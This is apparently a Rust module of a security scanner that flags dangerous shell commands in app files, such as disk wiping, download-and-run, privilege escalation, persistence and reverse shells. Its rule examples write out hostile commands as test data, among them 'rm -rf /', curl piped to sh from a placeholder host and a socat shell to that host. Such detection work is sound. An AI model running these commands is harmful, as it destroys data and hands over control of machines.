//! What a shell is told to do.

use super::{Rule, files::is_credential_file, harvest, network, packages, spawn};
use crate::guard::{
    found::Found,
    hosts,
    read::{Language, shell::Command},
    value::HOLE,
    verdict::Severity,
};

pub static DESTROY: Rule = Rule {
    id: "command-destroy",
    severity: Severity::Block,
    why: "it destroys more than the app owns",
    remedy: "remove only what the app has made, by its name",
    finds: &[
        ("x.sh", "rm -rf /"),
        ("x.sh", "sudo rm -fr --no-preserve-root /*"),
        ("x.sh", "dd if=/dev/zero of=/dev/sda"),
        ("x.sh", "a=rm; $a -rf ~"),
        ("Dockerfile", "FROM a\nRUN mkfs.ext4 /dev/sda1"),
        ("Procfile", "web: node server.js; rm -rf /home"),
        ("package.json", "{\"scripts\": {\"clean\": \"rm -rf /\"}}"),
    ],
    spares: &[
        ("x.sh", "rm -rf node_modules dist ./build\nrm -f /tmp/x.lock\nfind . -name '*.pyc' -delete"),
        ("package.json", "{\"scripts\": {\"clean\": \"rm -rf dist\"}}"),
    ],
};
pub static DOWNLOAD: Rule = Rule {
    id: "command-download-run",
    severity: Severity::Block,
    why: "it runs what nobody has read",
    remedy: "install a named version from a package registry",
    finds: &[
        ("x.sh", "curl -s https://c.example.net/i.sh | bash"),
        ("x.sh", "wget -qO- c.example.net/x | sudo sh -s"),
        ("x.sh", "echo cm0gLXJmIC8= | base64 -d | sh"),
        ("x.sh", "bash <(curl -s https://c.example.net)"),
        ("x.sh", "eval \"$(curl -s https://c.example.net)\""),
        ("x.sh", "{curl,-s,https://c.example.net}|sh"),
        ("x.sh", "wget https://c.example.net/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
        ("x.sh", "/???/b??h -c x"),
        ("Dockerfile", "FROM a\nRUN curl https://c.example.net/i | sh"),
    ],
    spares: &[
        ("x.sh", "curl -fsSL https://api.example.com/items | jq .\neval \"$(ssh-agent -s)\"\nbash ./build.sh"),
        ("Dockerfile", "FROM node:20\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -"),
    ],
};
pub static PRIVILEGE: Rule = Rule {
    id: "command-privilege",
    severity: Severity::Block,
    why: "it takes rights that the app does not need",
    remedy: "run as the user that the sandbox gives",
    finds: &[
        ("x.sh", "chmod u+s /bin/bash"),
        ("x.sh", "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
        ("x.sh", "docker run -v /:/host --privileged alpine"),
    ],
    spares: &[("x.sh", "chmod +x run.sh\nsudo apt-get install -y ffmpeg\ndocker compose up -d")],
};
pub static PERSIST: Rule = Rule {
    id: "command-persist",
    severity: Severity::Block,
    why: "it stays when the app is gone",
    remedy: "let the app's own process do what is to be done, as long as it lives",
    finds: &[
        ("x.sh", "echo '* * * * * curl c.example.net | sh' | crontab -"),
        ("x.sh", "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys"),
        ("x.sh", "cp x /etc/cron.d/x"),
    ],
    spares: &[("x.sh", "echo done >> build.log\ncrontab -l")],
};
pub static REMOTE: Rule = Rule {
    id: "command-remote",
    severity: Severity::Block,
    why: "it opens a way in or out that nothing watches",
    remedy: "speak HTTP to a named host, from the app itself",
    finds: &[
        ("x.sh", "nc -lvp 4444"),
        ("x.sh", "socat TCP:c.example.net:443 EXEC:sh"),
        ("x.sh", "n\\c c.example.net 80 < data"),
    ],
    spares: &[("x.sh", "until nc -z db 5432; do sleep 1; done\nrsync -a src/ dest/")],
};

pub(super) const RULES: &[&Rule] = &[&DESTROY, &DOWNLOAD, &PRIVILEGE, &PERSIST, &REMOTE];

/// Hosts whose installers are the official way, and are read by many.
const INSTALLERS: [&str; 14] = [
    "deb.nodesource.com",
    "rpm.nodesource.com",
    "sh.rustup.rs",
    "install.python-poetry.org",
    "astral.sh",
    "bun.sh",
    "deno.land",
    "get.pnpm.io",
    "raw.githubusercontent.com",
    "get.docker.com",
    "fnm.vercel.app",
    "dl.yarnpkg.com",
    "bootstrap.pypa.io",
    "get.volta.sh",
];
/// Whose output `eval` is made for.
const EVALUATED: [&str; 14] = [
    "ssh-agent",
    "pyenv",
    "rbenv",
    "nodenv",
    "direnv",
    "brew",
    "opam",
    "fnm",
    "starship",
    "minikube",
    "docker-machine",
    "conda",
    "dircolors",
    "zoxide",
];

pub(in crate::guard) fn is_interpreter(program: &str) -> bool {
    is_shell(program)
        || matches!(program, "node" | "perl" | "ruby" | "php" | "deno" | "bun" | "lua")
        || program.starts_with("python")
}

fn is_shell(program: &str) -> bool {
    matches!(
        program,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "ash"
            | "fish"
            | "csh"
            | "tcsh"
            | "busybox"
            | "pwsh"
            | "powershell"
            | "cmd"
    )
}

/// Judges words that are started without a shell.
pub(super) fn words(words: &[String], line: usize, found: &mut Found<'_>) {
    judge(&Command { words: words.to_vec(), ..Command::default() }, line, found);
}

pub(super) fn judge(command: &Command, line: usize, found: &mut Found<'_>) {
    let program = command.program();
    let args = command.args();
    for word in command.words.iter().chain(&command.redirects) {
        network::words(word, line, found);
        for host in hosts::named(word).into_iter().chain(bare_host(program, word)) {
            network::place(&host, line, found);
            found.egress(host);
        }
    }
    redirects(command, line, found);
    credentials(command, program, line, found);
    destroys(program, args, line, found);
    runs(command, program, args, line, found);
    privileges(program, args, line, found);
    remote(command, program, args, line, found);
    inline(program, args, line, found);
    installs(program, args, line, found);
    if command.endless && command.background {
        found.add(&spawn::FORK, line, "processes are started in a loop that nothing ends");
    }
}

/// `curl c.example.net` and `curl 2852039166` need no scheme.
fn bare_host(program: &str, word: &str) -> Option<String> {
    let fetches = matches!(program, "curl" | "wget" | "http" | "ping" | "nslookup" | "dig");
    (fetches && !word.starts_with('-') && !word.contains("://"))
        .then(|| hosts::of(&format!("http://{word}")))
        .flatten()
        .filter(|_| word.contains('.') || word.len() >= 8)
}

fn has(args: &[String], options: &[&str]) -> bool {
    args.iter().any(|arg| options.contains(&arg.as_str()))
}

fn redirects(command: &Command, line: usize, found: &mut Found<'_>) {
    for target in &command.redirects {
        let starts = |starts: &[&str]| starts.iter().any(|start| target.starts_with(start));
        let ends = |ends: &[&str]| ends.iter().any(|end| target.ends_with(end));
        if target.starts_with("/dev/sd") || target.starts_with("/dev/nvme") || target.starts_with("/dev/mem") {
            found.add(&DESTROY, line, "it writes over a disk");
        } else if target.contains("sudoers")
            || target.contains("ld.so.preload")
            || target == "/etc/passwd"
            || target == "/etc/shadow"
        {
            found.add(&PRIVILEGE, line, &format!("it writes to {target}"));
        } else if starts(&["/etc/", "/root/", "/usr/", "/lib/", "/boot/"]) && target != "/etc/hosts"
            || ends(&[".bashrc", ".profile", ".bash_profile", ".zshrc", "authorized_keys"])
        {
            found.add(&PERSIST, line, &format!("it writes to {target}"));
        }
    }
}

fn credentials(command: &Command, program: &str, line: usize, found: &mut Found<'_>) {
    let keeps = matches!(
        program,
        "ssh" | "ssh-keygen" | "ssh-add" | "ssh-keyscan" | "chmod" | "mkdir" | "chown" | "touch" | "echo" | "npm"
    );
    let path = |word: &String| is_credential_file(word.rsplit(['@', '=']).next().unwrap_or(word));
    let named = command.words.iter().chain(&command.redirects).any(path);
    let sends = matches!(program, "curl" | "wget" | "nc" | "scp" | "ncat" | "http" | "mail" | "sendmail" | "rsync");
    let fed = command.feeds.iter().any(|feed| {
        let first = feed.split_whitespace().next().unwrap_or_default();
        matches!(first, "env" | "printenv" | "set" | "history") || feed.split_whitespace().any(is_credential_file)
    });
    if sends && (named || fed) {
        found.add(&harvest::CREDENTIALS, line, &format!("{program} sends them"));
    } else if named && !keeps {
        found.add(&super::FILE_OUTSIDE, line, &format!("{program} takes a file of credentials"));
    }
}

fn destroys(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
    let system = |path: &String| {
        let path = path.trim_end_matches(['*', '.']);
        let root = matches!(
            path,
            "/" | "~"
                | "~/"
                | "/home"
                | "/home/"
                | "/etc"
                | "/etc/"
                | "/usr"
                | "/usr/"
                | "/var"
                | "/var/"
                | "/bin"
                | "/lib"
                | "/boot"
                | "/root"
                | "/root/"
                | "/opt"
                | "/srv"
                | "C:\\"
                | "c:\\"
        );
        root || path == HOLE.to_string() && args.iter().any(|arg| arg == "--no-preserve-root")
    };
    let on_system = args.iter().any(system);
    let on_disk = args.iter().any(|arg| {
        arg.contains("/dev/sd")
            || arg.contains("/dev/nvme")
            || arg.contains("/dev/vd")
            || arg.contains("/dev/xvd")
            || arg.contains("/dev/hd")
            || arg.contains("/dev/mmcblk")
    });
    let destroys = match program {
        "rm" | "shred" | "unlink" | "del" | "rmdir" | "rd" | "Remove-Item" | "srm" => {
            on_system || on_disk || has(args, &["--no-preserve-root"])
        }
        "dd" | "wipefs" | "fdisk" | "parted" | "sgdisk" | "blkdiscard" => {
            on_disk || args.iter().any(|arg| arg.starts_with("of=/dev/") && arg != "of=/dev/null")
        }
        "mv" | "truncate" | "cp" => on_system && args.iter().any(|arg| arg == "/dev/null") || on_disk,
        "chmod" | "chown" | "chattr" => on_system,
        "shutdown" | "reboot" | "halt" | "poweroff" => true,
        "init" | "telinit" => has(args, &["0", "6"]),
        "kill" => has(args, &["-1"]) && args.len() > 1 || args.last().is_some_and(|pid| pid == "1" || pid == "-1"),
        "find" => on_system && (has(args, &["-delete"]) || args.iter().any(|arg| arg == "rm" || arg == "shred")),
        "format" => args.iter().any(|arg| arg.len() == 2 && arg.ends_with(':')),
        "crontab" => has(args, &["-r"]),
        "git" => false,
        program => program.starts_with("mkfs"),
    };
    if destroys {
        found.add(&DESTROY, line, &format!("`{program} {}`", args.join(" ").replace(HOLE, "…")));
    }
}

/// What is run without having been read.
fn runs(command: &Command, program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
    let makes = |feed: &String| {
        let mut words = feed.split_whitespace();
        let first = words.next().map(|word| word.rsplit('/').next().unwrap_or(word)).unwrap_or_default();
        let first = if first == "sudo" { words.next().unwrap_or_default() } else { first };
        match first {
            "curl" | "wget" | "fetch" | "lynx" | "aria2c" | "http" => {
                let known = hosts::named(feed).iter().any(|host| INSTALLERS.contains(&host.as_str()));
                !known
            }
            "base64" | "base32" | "xxd" | "openssl" | "gunzip" | "zcat" | "uudecode" | "rev" | "tr" | "gzip" | "nc"
            | "hexdump" | "printf" => true,
            "echo" => feed.contains("\\x") || feed.len() > 400,
            _ => false,
        }
    };
    let fed = command.feeds.iter().any(makes);
    let runs_feed = is_interpreter(program)
        || matches!(program, "source" | "." | "eval" | "xargs")
        || command.words.iter().any(|word| word == "xargs");
    let plain_args = args.iter().filter(|arg| !arg.starts_with('-')).count();
    // `python script.py` reads its own file, whatever is piped into it.
    let script = is_interpreter(program)
        && plain_args > 0
        && !args.iter().any(|arg| arg.starts_with("/dev/fd/") || arg.contains(HOLE) || arg == "/dev/stdin")
        && !has(args, &["-s", "-c"]);
    if fed && runs_feed && !script {
        found.add(&DOWNLOAD, line, &format!("{program} runs what another program gives it"));
    } else if program == "eval" && args.iter().any(|arg| arg.contains(HOLE)) {
        let known = command
            .feeds
            .iter()
            .any(|feed| feed.split_whitespace().next().is_some_and(|first| EVALUATED.contains(&first)));
        if !known {
            found.add(&DOWNLOAD, line, "eval runs what it is given");
        }
    } else if fed && program.contains(HOLE) {
        found.add(&DOWNLOAD, line, "the output of another program is run");
    }
    let path = command.words.first().map_or("", String::as_str);
    let temporary = ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|folder| path.starts_with(folder));
    if temporary || path.starts_with('/') && path.contains(['?', '*', '[']) {
        found.add(&DOWNLOAD, line, &format!("`{path}` is run"));
    }
}

fn privileges(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
    let takes = match program {
        "chmod" => args.iter().any(|arg| {
            arg.contains("+s")
                || arg.len() == 4 && arg.starts_with(['4', '2', '6']) && arg.chars().all(|c| c.is_ascii_digit())
        }),
        "setcap" | "nsenter" | "insmod" | "modprobe" | "visudo" | "chroot" | "unshare" | "usermod" | "passwd"
        | "chpasswd" | "iptables" | "nft" | "ufw" | "setenforce" => true,
        "useradd" | "adduser" => args.iter().any(|arg| arg == "0" || arg == "sudo" || arg == "wheel"),
        "docker" | "podman" => {
            has(args, &["--privileged", "--pid=host", "--net=host"])
                || args.iter().any(|arg| arg.starts_with("/:/") || arg.contains("docker.sock"))
        }
        "mount" => !args.is_empty(),
        _ => false,
    };
    if takes {
        found.add(&PRIVILEGE, line, &format!("`{program}`"));
    }
    let stays = match program {
        "cp" | "mv" | "tee" | "install" | "ln" => args.iter().any(|arg| {
            arg.starts_with("/etc/cron")
                || arg.starts_with("/etc/systemd")
                || arg.starts_with("/etc/init.d")
                || arg.ends_with("authorized_keys")
                || arg.starts_with("/etc/profile")
                || arg.starts_with("/etc/sudoers")
                || arg.ends_with(".bashrc")
        }),
        _ => false,
    };
    if stays {
        found.add(&PERSIST, line, &format!("`{program}` puts it where it is started again"));
    }
}

fn remote(command: &Command, program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
    match program {
        "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
            let shell = args.iter().any(|arg| {
                matches!(arg.as_str(), "-e" | "-c" | "--exec" | "--sh-exec")
                    || arg.contains("EXEC:")
                    || arg.contains("exec:")
            });
            if shell {
                found.add(&spawn::REVERSE_SHELL, line, &format!("`{program}` gives away a shell"));
            }
            if shell || !args.iter().any(|arg| arg.starts_with('-') && arg.contains('z')) {
                found.add(&REMOTE, line, &format!("`{program}`"));
            }
        }
        "ssh"
            if args.iter().any(|arg| {
                matches!(arg.as_str(), "-R" | "-D" | "-w")
                    || arg.starts_with("-R")
                    || arg.starts_with("-fNR")
                    || arg.contains("NR")
            }) =>
        {
            found.add(&network::TUNNEL, line, "`ssh` opens a way back in");
        }
        "ngrok" | "cloudflared" | "lt" | "localtunnel" | "chisel" | "frpc" | "bore" | "pagekite" | "zrok"
        | "tailscale" | "gsocket" => {
            found.add(&network::TUNNEL, line, &format!("`{program}`"));
        }
        "xmrig" | "minerd" | "cpuminer" | "ethminer" | "nbminer" | "t-rex" | "phoenixminer" | "xmr-stak"
        | "bfgminer" | "cgminer" => {
            found.add(&network::MINER, line, &format!("`{program}`"));
        }
        "certutil" | "bitsadmin" | "mshta" | "rundll32" | "regsvr32" | "iex" | "IEX" | "Invoke-Expression" => {
            found.add(&DOWNLOAD, line, &format!("`{program}`"))
        }
        "crontab" if !has(args, &["-l", "-r", "-e"]) => {
            let text = command.feeds.join(" ");
            let remote = ["curl", "wget", "nc ", "base64", "bash -i", "/tmp/", "python -c"]
                .iter()
                .any(|word| text.contains(word));
            if remote {
                found.add(&PERSIST, line, "a job of cron fetches what it runs")
            } else {
                found.hint(&PERSIST, line, "a job of cron outlives the app")
            }
        }
        "systemctl" if has(args, &["enable"]) => found.hint(&PERSIST, line, "a service is started with the machine"),
        "ssh" | "scp" | "sftp" | "ftp" => found.hint(&REMOTE, line, &format!("`{program}`")),
        _ => {}
    }
    if command.words.first().is_some_and(|word| word.starts_with("LD_PRELOAD=")) {
        found.add(&PRIVILEGE, line, "a library is put in front of all others");
    }
}

/// Programs inside of a command: `sh -c`, `python -c`, `node -e`.
fn inline(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
    let code =
        |options: &[&str]| args.iter().position(|arg| options.contains(&arg.as_str())).and_then(|at| args.get(at + 1));
    match program {
        program if program.starts_with("python") => {
            if let Some(code) = code(&["-c"]) {
                found.nest(Language::Python, code, line);
            }
        }
        "node" | "bun" => {
            if let Some(code) = code(&["-e", "--eval", "-p", "--print"]) {
                found.nest(Language::JavaScript, code, line);
            }
        }
        "perl" | "ruby" | "php" | "lua" => {
            let joined = args.join(" ");
            let sockets = ["socket", "Socket", "exec", "system(", "`", "eval"].iter().any(|word| joined.contains(word));
            if sockets
                && args.iter().any(|arg| {
                    matches!(arg.as_str(), "-e" | "-r") || arg.starts_with("-rsocket") || arg.starts_with("-M")
                })
            {
                found.add(&spawn::REVERSE_SHELL, line, &format!("`{program}` runs a program of one line"));
            }
        }
        "powershell" | "pwsh" | "powershell.exe" => {
            let joined = args.join(" ").to_ascii_lowercase();
            if ["-enc", "-e ", "iex", "invoke-expression", "downloadstring", "downloadfile", "hidden", "frombase64"]
                .iter()
                .any(|word| joined.contains(word))
            {
                found.add(&DOWNLOAD, line, "a hidden or loaded program is run");
            }
        }
        program if is_shell(program) => {
            if let Some(code) = code(&["-c", "-lc", "-ic", "-ec", "-xc", "/c", "-cl"]) {
                found.nest(Language::Shell, code, line);
            }
        }
        _ => {}
    }
}

/// Packages that a command installs.
fn installs(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
    let Some(verb) = args.iter().position(|arg| matches!(arg.as_str(), "install" | "i" | "add")) else { return };
    let packages = args[verb + 1..].iter().filter(|arg| !arg.contains(HOLE));
    match program {
        "npm" | "yarn" | "pnpm" | "bun" => {
            for name in packages.filter(|arg| !arg.starts_with('-') && !arg.starts_with('.') && !arg.starts_with('/')) {
                let at = name.get(1..).and_then(|rest| rest.find('@')).map_or(name.len(), |at| at + 1);
                let (name, version) = name.split_at(at);
                let remote = name.contains("://") || name.starts_with("git+");
                packages::npm(name, if remote { name } else { version.trim_start_matches('@') }, line, found);
            }
        }
        "pip" | "pip3" | "uv" | "pipx" | "python" | "python3"
            if program.starts_with("pip") || program == "uv" || has(args, &["pip"]) =>
        {
            let mut file = false;
            for name in packages {
                if !file && !name.starts_with('.') && !name.starts_with('/') {
                    packages::pip(name, line, found);
                }
                file = matches!(
                    name.as_str(),
                    "-r" | "-c"
                        | "-t"
                        | "--target"
                        | "--prefix"
                        | "--root"
                        | "--requirement"
                        | "--index-url"
                        | "-i"
                        | "--extra-index-url"
                        | "-f"
                );
            }
            let joined = args.join(" ");
            if let Some((_, url)) = joined.split_once("index-url") {
                packages::index(url, line, found);
            }
        }
        _ => {}
    }
}
